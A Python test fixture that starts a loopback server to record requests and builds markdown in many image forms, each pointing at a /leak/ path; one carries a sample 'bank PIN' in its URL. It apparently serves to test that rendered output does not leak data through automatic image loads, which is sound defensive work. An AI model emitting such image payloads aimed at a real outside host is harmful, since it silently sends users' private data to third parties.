"""A loopback HTTP server that records every request: where a leaked image request would land.

It answers every GET with a 1×1 PNG, or with 404 under `/missing`.
"""

from __future__ import annotations

import base64
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


@dataclass(frozen=True)
class LeakedRequest:
    path: str
    headers: dict[str, str]


class LeakServer:
    def __init__(self) -> None:
        self.requests: list[LeakedRequest] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                owner.requests.append(LeakedRequest(self.path, {k.lower(): v for k, v in self.headers.items()}))
                if self.path.startswith("/missing"):
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.end_headers()
                self.wfile.write(PNG)

            def log_message(self, *args: object) -> None:
                pass

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._httpd.server_address[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self._httpd.serve_forever, name="leak-server", daemon=True)

    def start(self) -> LeakServer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()

    def paths(self) -> list[str]:
        return [r.path for r in self.requests]


def image_forms(origin: str, tag: str) -> str:
    """Markdown with every image form we know of, each at its own `/leak/<tag>-<form>` address."""
    host = origin.removeprefix("http:")
    return (
        f"Inline: ![inline chart]({origin}/leak/{tag}-inline?q=bank+PIN+4921) and text.\n\n"
        f"[r-{tag}]: {origin}/leak/{tag}-reference\n"
        f"Reference: ![reference chart][r-{tag}]\n\n"
        f"Late reference: ![late chart][late-{tag}]\n\n"
        f"Protocol-relative: ![relative chart]({host}/leak/{tag}-protocol-relative)\n\n"
        f"| table | cell |\n| --- | --- |\n| ![table chart]({origin}/leak/{tag}-table) | 2 |\n\n"
        f"Linked: [![linked chart]({origin}/leak/{tag}-in-link)]({origin}/leak/{tag}-link-target)\n\n"
        f"Raw: <img src=\"{origin}/leak/{tag}-raw-img\"> <img src={origin}/leak/{tag}-raw-bare>\n\n"
        f"[late-{tag}]: {origin}/leak/{tag}-late-reference\n"
    )
